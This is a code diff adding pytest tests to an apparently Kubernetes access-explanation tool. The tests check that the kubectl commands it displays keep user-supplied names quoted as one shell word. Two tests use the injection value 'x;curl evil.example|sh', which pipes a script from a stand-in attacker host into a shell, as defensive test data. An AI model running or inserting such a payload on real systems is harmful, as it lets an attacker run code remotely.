@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import html
 import re
+import shlex
 from typing import Any
 from urllib.parse import parse_qsl, urlsplit
 
@@ -196,6 +197,17 @@ def test_explain_shows_a_yes_with_its_source_and_a_no_with_what_lacks(people: No
     no = text(ana.get(EXPLAIN, {"verb": "accept", "resource": CLUSTERS, "name": "eu-2"}))
     assert "Name differs: it is held on eu-1, and eu-2 was asked." in no
     assert "Request access" in no
+
+
+@pytest.mark.parametrize("field", ["name", "namespace"])
+def test_a_command_is_one_whatever_the_link_says(boss: Client, field: str) -> None:
+    asked = {"verb": "get", "resource": "secrets", field: "x;curl evil.example|sh"}
+    shown = boss.get(EXPLAIN, asked).context["commands"]
+    assert shown
+    for command in shown:
+        words = shlex.split(command)
+        assert words[:3] == ["kubectl", "auth", "can-i"]
+        assert any("x;curl evil.example|sh" in word for word in words), "one word, with all of it"
 
 
 @pytest.mark.parametrize("asked", [{"resource": CLUSTERS}, {"verb": "get"}, {}])
@@ -531,6 +543,19 @@ def test_each_source_is_taken_away_by_itself(people: None, boss: Client) -> None
     assert not may("ana", ClusterPermission.ACCEPT, obj=ManagedCluster.objects.get(name="eu-1"))
     assert verbs.find(kinds.CLUSTER_ROLE_BINDING, Key("", bound)) is None
     assert boss.get(pages[0]).status_code == 404
+
+
+def test_a_binding_is_one_word_of_the_command_that_deletes_it(people: None, boss: Client) -> None:
+    """Names of RBAC may hold anything but a slash and a per cent sign."""
+    name = "x;curl evil.example|sh"
+    doc = {
+        "metadata": {"name": name},
+        "roleRef": {"kind": "ClusterRole", "name": grant(person("li"), rule("get", "secrets"))},
+        "subjects": [{"kind": "User", "name": "ana"}],
+    }
+    verbs.create(ROOT, kinds.CLUSTER_ROLE_BINDING, doc)
+    shown = boss.get("/access/take/", {"holder": "ana", "source": f"binding:/{name}"}).context["command"]
+    assert shlex.split(shown) == ["kubectl", "delete", "clusterrolebinding", name]
 
 
 def test_a_binding_of_several_loses_one_subject_only(boss: Client) -> None:
